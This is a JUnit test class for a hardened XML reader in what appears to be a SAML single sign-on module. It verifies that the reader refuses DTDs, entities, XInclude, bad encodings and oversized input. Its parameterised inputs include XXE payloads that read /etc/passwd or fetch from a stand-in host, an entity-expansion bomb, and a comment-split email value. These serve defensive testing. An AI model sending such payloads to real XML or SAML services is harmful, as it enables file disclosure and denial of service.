package io.crmkit.sso.saml.xml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import io.crmkit.core.RefusedException;
import io.crmkit.sso.model.SsoRefusal;
import io.crmkit.sso.saml.model.SamlReason;
import java.nio.charset.StandardCharsets;
import java.util.Objects;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class XmlReaderTest {

  private final XmlReader reader = new XmlReader(XmlLimits.MESSAGE);

  private SamlReason reason(byte[] document) {
    return reasonOf(catchThrowable(() -> reader.read(document)));
  }

  private SamlReason reason(String document) {
    return reason(document.getBytes(StandardCharsets.UTF_8));
  }

  private static SamlReason reasonOf(Throwable thrown) {
    assertThat(thrown).isInstanceOf(RefusedException.class);
    return (SamlReason) ((SsoRefusal) ((RefusedException) thrown).refusal()).reason();
  }

  @Test
  void joinsTextAndCharacterData() {
    XmlElement root = reader.read("<a>x<![CDATA[<y>]]>&amp;z</a>".getBytes(StandardCharsets.UTF_8));

    assertThat(root.text()).isEqualTo("x<y>&z");
  }

  @Test
  void seesACommentThatSplitsAValue() {
    XmlElement root = reader.read("<a>admin@x<!-- -->.evil</a>".getBytes(StandardCharsets.UTF_8));

    assertThat(reasonOf(catchThrowable(root::text))).isEqualTo(SamlReason.COMMENT_IN_VALUE);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "<!DOCTYPE a><a/>",
    "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>",
    "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil.example/x'>%p;]><a/>",
    "<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;'>]><a>&b;</a>",
    "<!DOCTYPE a [<!ATTLIST a x ID #IMPLIED>]><a x='1'/>",
    "<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></a>"
  })
  void refusesDocumentTypesEntitiesAndInclusions(String document) {
    assertThat(reason(document)).isEqualTo(SamlReason.DTD_FORBIDDEN);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "", "<a>", "<a/><b/>", "<a/>text", "<a/><!-- after -->", "<a/><?after it?>", "<a>&unknown;</a>", "<a>\u0000</a>",
    "<?xml version='1.1'?><a/>", "<a b='1' b='2'/>", "<x:a/>", "no document"
  })
  void refusesWhatIsNotOneRoot(String document) {
    assertThat(reason(document)).isEqualTo(SamlReason.MALFORMED_XML);
  }

  @Test
  void refusesOtherEncodings() {
    assertThat(reason("<?xml version='1.0' encoding='UTF-7'?><a/>")).isEqualTo(SamlReason.MALFORMED_ENCODING);
    assertThat(reason("<?xml version='1.0' encoding='UTF-16'?><a/>")).isEqualTo(SamlReason.MALFORMED_ENCODING);
    assertThat(reason(new byte[] {'<', 'a', '>', (byte) 0xC3, '<', '/', 'a', '>'}))
        .isEqualTo(SamlReason.MALFORMED_ENCODING);
  }

  @Test
  void readsUtf16ByItsMarkAndSeesADocumentTypeInIt() {
    assertThat(reader.read("<a>é</a>".getBytes(StandardCharsets.UTF_16)).text()).isEqualTo("é");
    assertThat(reason("<!DOCTYPE a><a/>".getBytes(StandardCharsets.UTF_16))).isEqualTo(SamlReason.DTD_FORBIDDEN);
  }

  @ParameterizedTest
  @ValueSource(strings = {"relative", "../up", "no scheme"})
  void refusesRelativeNamespaces(String namespace) {
    assertThat(reason("<a xmlns:n='" + namespace + "'/>")).isEqualTo(SamlReason.MALFORMED_NAMESPACE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"<a :b=''/>", "<:a/>", "<a><:b/></a>", "<xmlns/>"})
  void refusesNamesThatNoTreeCanHold(String document) {
    assertThat(reason(document)).isEqualTo(SamlReason.MALFORMED_NAMESPACE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"<xmlns:a/>", "<a:/>", "<a b:=''/>", "<n:a:b xmlns:n='urn:n'/>", "<n:a/>", "<a n:b=''/>"})
  void refusesNamesThatNoParserReads(String document) {
    assertThat(reason(document)).isEqualTo(SamlReason.MALFORMED_XML);
  }

  @Test
  void countsDepthAttributesAndBytes() {
    assertThat(reader.read(nested(64)).name()).isEqualTo("a");
    assertThat(reason(nested(65))).isEqualTo(SamlReason.TOO_LARGE);
    assertThat(reader.read(wide(128)).name()).isEqualTo("a");
    assertThat(reason(wide(129))).isEqualTo(SamlReason.TOO_LARGE);
    assertThat(reason("<a>" + "x".repeat(256 * 1024) + "</a>")).isEqualTo(SamlReason.TOO_LARGE);
  }

  private static byte[] nested(int depth) {
    return ("<a>".repeat(depth) + "</a>".repeat(depth)).getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] wide(int attributes) {
    StringBuilder text = new StringBuilder("<a");
    for (int at = 0; at < attributes; at++) {
      text.append(" b").append(at).append("=''");
    }
    return text.append("/>").toString().getBytes(StandardCharsets.UTF_8);
  }

  @Test
  void keepsItsStackOnWhatIsFiftyThousandDeep() throws InterruptedException {
    AtomicReference<Throwable> thrown = new AtomicReference<>();
    XmlReader roomy = new XmlReader(new XmlLimits(1_000_000, 64, 128));
    Thread small = new Thread(
        null, () -> thrown.set(catchThrowable(() -> roomy.read(nested(50_000)))), "small stack", 512 * 1024);
    small.start();
    small.join();

    assertThat(reasonOf(Objects.requireNonNull(thrown.get()))).isEqualTo(SamlReason.TOO_LARGE);
  }

  @Test
  void readsOnAfterARefusal() {
    assertThat(reason("<a>")).isEqualTo(SamlReason.MALFORMED_XML);
    assertThat(reader.read("<b/>".getBytes(StandardCharsets.UTF_8)).name()).isEqualTo("b");
  }
}
